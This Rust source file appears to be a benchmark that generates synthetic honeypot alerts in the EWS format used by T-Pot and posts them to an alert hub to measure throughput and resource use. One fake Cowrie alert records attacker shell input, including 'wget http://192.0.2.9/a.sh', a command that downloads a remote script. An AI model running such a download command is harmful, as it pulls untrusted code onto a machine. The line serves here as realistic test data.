//! Alerts a second in EWS messages of a hundred, as honeypots post them, each
//! answered after fsync. The sender runs on the same machine: it keeps its
//! connections, or opens one for each message as the poster of T-Pot does.

#![allow(clippy::disallowed_methods, reason = "a load at a steady rate waits by the clock")]

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::TcpStream;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use anyhow::{Context as _, ensure};

use crate::generate::Random;
use crate::process::{self, Process};
use crate::table::{number, print};

/// Where messages go.
const PATH: &str = "/ews-0.1/alert/postSimpleMessage";
/// Name and token of the user.
pub(crate) const USER: &str = "tpot-1";
pub(crate) const TOKEN: &str = "a token of some length";
/// Alerts of one message.
const MESSAGE_ALERTS: u64 = 100;
const ALERTS: u64 = 400_000;
const SENDERS: usize = 4;
/// Longest wait for one answer.
const PATIENCE: Duration = Duration::from_secs(60);
/// Different HTTP requests that are posted; real ones repeat as much.
const REQUESTS: u64 = 500;

/// Makes the user for the data in `home/data`.
pub(crate) fn add_user(home: &Path) -> anyhow::Result<()> {
    let mut child = Command::new(process::binary()?)
        .args(["user", "add", USER, "--ews", "--token-stdin", "--data", "data"])
        .current_dir(home)
        .stdin(Stdio::piped())
        .spawn()?;
    child.stdin.take().context("no input")?.write_all(TOKEN.as_bytes())?;
    ensure!(child.wait()?.success(), "no EWS user");
    Ok(())
}

/// One alert; `session` makes it another than all before.
pub(crate) fn alert(out: &mut String, at: &str, session: &str, random: &mut Random) {
    use std::fmt::Write as _;
    let draw = random.next();
    let (a, b) = (draw >> 8 & 0xff, draw >> 16 & 0xff);
    let source = format!("{}.{}.{a}.{b}", 1 + draw % 222, draw >> 24 & 0xff);
    let port = 1024 + draw % 60_000;
    let (analyzer, target, content) = match draw >> 32 & 7 {
        0..=2 => (
            "cowrie-community-01",
            22,
            format!(
                "<Request type=\"description\">SSH Honeypot Cowrie</Request>\
             <AdditionalData type=\"string\" meaning=\"version\">SSH-2.0-Go</AdditionalData>\
             <AdditionalData type=\"string\" meaning=\"login\">Fail</AdditionalData>\
             <AdditionalData type=\"string\" meaning=\"username\">root</AdditionalData>\
             <AdditionalData type=\"string\" meaning=\"password\">{}</AdditionalData>",
                random.skewed(10_000)
            ),
        ),
        3 => (
            "cowrie-community-01",
            23,
            "<Request type=\"description\">SSH Honeypot Cowrie</Request>\
             <AdditionalData type=\"string\" meaning=\"login\">Success</AdditionalData>\
             <AdditionalData type=\"string\" meaning=\"username\">root</AdditionalData>\
             <AdditionalData type=\"string\" meaning=\"password\">admin</AdditionalData>\
             <AdditionalData type=\"string\" meaning=\"input\">['uname -a', 'cat /proc/cpuinfo', \
             'wget http://192.0.2.9/a.sh']</AdditionalData>"
                .to_owned(),
        ),
        4 | 5 => (
            "honeytrap-community-01",
            445,
            "<Request type=\"description\">NetworkHoneypot \
             Honeytrap v1.1</Request>"
                .to_owned(),
        ),
        _ => {
            let request = format!(
                "GET /cgi-bin/{}.php HTTP/1.1\r\nHost: {source}\r\nUser-Agent: zgrab/0.x\r\n\r\n",
                random.skewed(REQUESTS)
            );
            (
                "tanner-community-01",
                80,
                format!(
                    "<Request type=\"description\">Tanner Honeypot</Request><Request type=\"raw\">{}</Request>",
                    base64(request.as_bytes())
                ),
            )
        }
    };
    let _ = write!(
        out,
        "<Alert><Analyzer id=\"{analyzer}\"/><CreateTime tz=\"+0000\">{at}</CreateTime>\
         <Source category=\"ipv4\" port=\"{port}\" protocol=\"tcp\">{source}</Source>\
         <Target category=\"ipv4\" port=\"{target}\" protocol=\"tcp\">203.0.113.5</Target>{content}\
         <AdditionalData type=\"string\" meaning=\"sessionid\">{session}</AdditionalData>\
         <AdditionalData type=\"string\" meaning=\"hostname\">tpot-lab</AdditionalData>\
         <AdditionalData type=\"string\" meaning=\"externalIP\">203.0.113.5</AdditionalData>\
         <AdditionalData type=\"string\" meaning=\"internalIP\">10.0.0.5</AdditionalData>\
         <AdditionalData type=\"string\" meaning=\"uuid\">5e3a6f0e-8f4b-4f4e-9d3c-0a1b2c3d4e5f\
         </AdditionalData></Alert>"
    );
}

/// The present second, as posters write it.
pub(crate) fn second() -> String {
    jiff::Timestamp::now().strftime("%Y-%m-%d %H:%M:%S").to_string()
}

/// A message around alerts.
pub(crate) fn message(alerts: &str) -> String {
    format!(
        "<EWS-SimpleMessage version=\"3.0\"><Authentication><username>{USER}</username>\
         <token>{TOKEN}</token></Authentication>{alerts}</EWS-SimpleMessage>"
    )
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let bits = chunk.iter().fold(0usize, |n, byte| n << 8 | usize::from(*byte));
        let bits = bits << (8 * (3 - chunk.len()));
        for place in 0..=chunk.len() {
            let digit = DIGITS.get(bits >> (18 - 6 * place) & 63).copied().unwrap_or(b'=');
            out.push(char::from(digit));
        }
        out.push_str(&"=".repeat(3 - chunk.len()));
    }
    out
}

/// A connection to the hub.
pub(crate) struct Poster {
    address: String,
    stream: Option<BufReader<TcpStream>>,
    keep: bool,
}

impl Poster {
    /// `url` is that of a listener without TLS.
    pub(crate) fn new(url: &str, keep: bool) -> Self {
        let address = url.trim_start_matches("http://").to_owned();
        Self { address, stream: None, keep }
    }

    /// Posts a message; whether it was answered OK.
    pub(crate) fn post(&mut self, message: &str) -> std::io::Result<bool> {
        let outcome = self.exchange(message);
        if outcome.is_err() || !self.keep {
            self.stream = None;
        }
        outcome
    }

    fn exchange(&mut self, message: &str) -> std::io::Result<bool> {
        let mut stream = match self.stream.take() {
            Some(stream) => stream,
            None => {
                let stream = TcpStream::connect(&self.address)?;
                stream.set_read_timeout(Some(PATIENCE))?;
                stream.set_nodelay(true)?;
                BufReader::new(stream)
            }
        };
        let connection = if self.keep { "keep-alive" } else { "close" };
        let head = format!(
            "POST {PATH} HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\nConnection: {connection}\r\n\
             Content-Length: {}\r\n\r\n",
            message.len()
        );
        stream.get_mut().write_all(head.as_bytes())?;
        stream.get_mut().write_all(message.as_bytes())?;
        let (mut line, mut length, mut ok) = (String::new(), 0, false);
        loop {
            line.clear();
            if stream.read_line(&mut line)? == 0 {
                return Err(std::io::ErrorKind::UnexpectedEof.into());
            }
            if let Some(status) = line.strip_prefix("HTTP/1.1 ") {
                ok = status.starts_with("200");
            }
            if let Some((name, value)) = line.split_once(':')
                && name.eq_ignore_ascii_case("content-length")
            {
                length = value.trim().parse().unwrap_or(0);
            }
            if line.trim().is_empty() {
                break;
            }
        }
        let mut body = vec![0u8; length];
        stream.read_exact(&mut body)?;
        self.stream = Some(stream);
        Ok(ok && body.windows(4).any(|part| part == b">OK<"))
    }
}

/// Messages of the present second.
fn messages(alerts: u64) -> Vec<String> {
    let mut random = Random::new(u64::from(std::process::id()));
    let at = second();
    (0..alerts / MESSAGE_ALERTS)
        .map(|number| {
            let mut text = String::new();
            for place in 0..MESSAGE_ALERTS {
                alert(&mut text, &at, &format!("{number:08x}{place:04x}"), &mut random);
            }
            message(&text)
        })
        .collect()
}

/// A fresh hub: alerts a second until answered and until stored, and its CPU.
fn measure(keep: bool) -> anyhow::Result<Vec<String>> {
    let home = tempfile::tempdir_in(".")?;
    process::settings(home.path(), &home.path().join("data"))?;
    add_user(home.path())?;
    let messages = messages(ALERTS);
    let bytes: usize = messages.iter().map(String::len).sum();
    let palisade = Process::up(home.path())?;
    let (cpu_before, ..) = process::usage(palisade.pid())?;
    let next = AtomicUsize::new(0);
    let begin = Instant::now();
    let slowest = std::thread::scope(|scope| {
        let senders: Vec<_> = (0..SENDERS)
            .map(|_| {
                scope.spawn(|| {
                    let mut poster = Poster::new(&palisade.url, keep);
                    let mut slowest = Duration::ZERO;
                    while let Some(message) = messages.get(next.fetch_add(1, Ordering::Relaxed)) {
                        let sent = Instant::now();
                        ensure!(poster.post(message)?, "a message was not answered OK");
                        slowest = slowest.max(sent.elapsed());
                    }
                    Ok(slowest)
                })
            })
            .collect();
        let mut slowest = Duration::ZERO;
        for sender in senders {
            let took = sender.join().map_err(|_| anyhow::anyhow!("a sender broke off"))??;
            slowest = slowest.max(took);
        }
        anyhow::Ok(slowest)
    })?;
    let answered = begin.elapsed().as_secs_f64();
    loop {
        let output = Command::new(process::binary()?)
            .args(["query", "--count", "--data", "data", &format!("sensor:{USER}")])
            .current_dir(home.path())
            .output()?;
        if String::from_utf8_lossy(&output.stdout).trim() == ALERTS.to_string() {
            break;
        }
        ensure!(begin.elapsed() < Duration::from_secs(300), "the alerts do not arrive");
        std::thread::sleep(Duration::from_millis(20));
    }
    let stored = begin.elapsed().as_secs_f64();
    let (cpu, rss, _) = process::usage(palisade.pid())?;
    palisade.kill()?;
    Ok(vec![
        if keep { "kept" } else { "one a message" }.to_owned(),
        (bytes as u64 / ALERTS).to_string(),
        number(ALERTS as f64 / answered),
        number(ALERTS as f64 / stored),
        format!("{:.1}", (cpu - cpu_before) * 1e6 / ALERTS as f64),
        format!("{:.0}", slowest.as_secs_f64() * 1e3),
        format!("{:.0}", rss as f64 / 1048576.0),
    ])
}

pub(crate) fn run() -> anyhow::Result<()> {
    let rows = [true, false].into_iter().map(measure).collect::<anyhow::Result<Vec<_>>>()?;
    print(
        "EWS alerts over HTTP in messages of 100 (2 senders on the same machine), 400,000 alerts",
        &[
            "connections",
            "bytes/alert",
            "answered/s",
            "stored and found/s",
            "hub CPU us/alert",
            "slowest answer ms",
            "RSS MiB",
        ],
        &rows,
    );
    Ok(())
}
